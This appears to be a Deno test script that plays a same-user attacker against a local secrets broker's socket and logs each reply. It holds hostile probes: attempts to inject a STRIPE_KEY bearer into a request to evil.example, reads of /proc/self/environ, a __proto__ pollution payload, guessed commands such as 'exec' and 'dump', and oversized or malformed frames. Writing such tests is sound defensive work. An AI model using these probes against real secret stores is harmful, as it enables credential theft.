/**
 * What an attacker of the same user says to a broker's socket: every question there is, what is none, and noise. Prints one JSON line
 * for each conversation: what was said, and all that came back.
 *
 *   deno run sealed_attacker.ts SOCKET FOLDER
 */
const [path, folder] = Deno.args as [string, string];
const encoder = new TextEncoder();

function frame(kind: number, payload: Uint8Array): Uint8Array {
  const bytes = new Uint8Array(5 + payload.length);
  bytes[0] = kind;
  new DataView(bytes.buffer).setUint32(1, payload.length);
  bytes.set(payload, 5);
  return bytes;
}

const message = (value: unknown): Uint8Array => frame(0x4d, encoder.encode(JSON.stringify(value)));

/** Says it, hears everything until the broker closes. */
async function say(what: string, bytes: Uint8Array): Promise<void> {
  using connection = await Deno.connect({ transport: "unix", path });
  let heard = "";
  try {
    for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
    await connection.closeWrite();
    const piece = new Uint8Array(65536);
    for (let n = await connection.read(piece); n !== null; n = await connection.read(piece)) {
      heard += new TextDecoder("latin1").decode(piece.subarray(0, n));
    }
  } catch (error) {
    heard += ` (${(error as Error).name})`;
  }
  console.log(JSON.stringify({ what, heard }));
}

const call = {
  target: "https://localhost/",
  method: "GET",
  headers: [],
  injections: [["bearer", "STRIPE_KEY"]],
  caller: { level: "user", agentId: "", tokenId: "", sessionId: "" },
  path: "call",
  folder,
};
const input = { folder };
const questions: Readonly<Record<string, unknown>> = {
  status: { v: 1, ask: "status" },
  names: { v: 1, ask: "names", input },
  "names elsewhere": { v: 1, ask: "names", input: { folder: "/proc/self" } },
  "names with values": { v: 1, ask: "names", input: { ...input, values: true } },
  "names of no folder": { v: 1, ask: "names", input: { folder: "relative" } },
  "a prototype": JSON.parse('{"v":1,"ask":"names","input":{"folder":"/","__proto__":{"values":true}}}'),
  "another version": { v: 2, ask: "status" },
  nothing: null,
  "a list": [1, 2, 3],
  "a call to a place that is not allowed": {
    v: 1,
    ask: "call",
    call: { ...call, target: "https://evil.example/" },
    body: "none",
  },
  "a call as an issued agent": {
    v: 1,
    ask: "call",
    call: { ...call, caller: { ...call.caller, level: "issued" } },
    body: "none",
  },
  "a call as env": { v: 1, ask: "call", call: { ...call, path: "env" }, body: "none" },
  "a call to the socket": { v: 1, ask: "call", call: { ...call, target: `unix:${path}` }, body: "none" },
  "a call to a file": { v: 1, ask: "call", call: { ...call, target: "file:///proc/self/environ" }, body: "none" },
};
const guesses = [
  "get",
  "read",
  "value",
  "values",
  "env",
  "exec",
  "export",
  "dump",
  "key",
  "keys",
  "unlock",
  "secret",
  "eval",
  "constructor",
  "__proto__",
  "toString",
  "vault",
  "password",
  "session",
  "set",
  "pull",
  "push",
  "diff",
  "audit",
  "debug",
];
for (const ask of guesses) await say(`ask ${ask}`, message({ v: 1, ask, name: "STRIPE_KEY", input, call }));
for (const [what, question] of Object.entries(questions)) await say(what, message(question));
await say("silence and an end", new Uint8Array(0));
await say("half a frame", message(questions["status"]).subarray(0, 7));
await say("a frame of 4 GiB", new Uint8Array([0x4d, 0xff, 0xff, 0xff, 0xff, 1, 2, 3]));
await say("a frame of no kind", frame(0x00, encoder.encode("x")));
await say("a body without a question", frame(0x44, encoder.encode("x")));
await say("no JSON", frame(0x4d, encoder.encode("{")));
await say("deep JSON", frame(0x4d, encoder.encode("[".repeat(500_000))));
await say("bytes that are no UTF-8", frame(0x4d, new Uint8Array([0xff, 0xfe, 0xfd])));
await say("HTTP", encoder.encode("GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"));
const noise = new Uint8Array(65536);
for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761) >>> 24;
await say("noise", noise);
await say(
  "a body that stops",
  (() => {
    const head = message({ v: 1, ask: "call", call, body: "stream" }), piece = frame(0x44, encoder.encode("x"));
    const both = new Uint8Array(head.length + piece.length);
    both.set(head);
    both.set(piece, head.length);
    return both;
  })(),
);
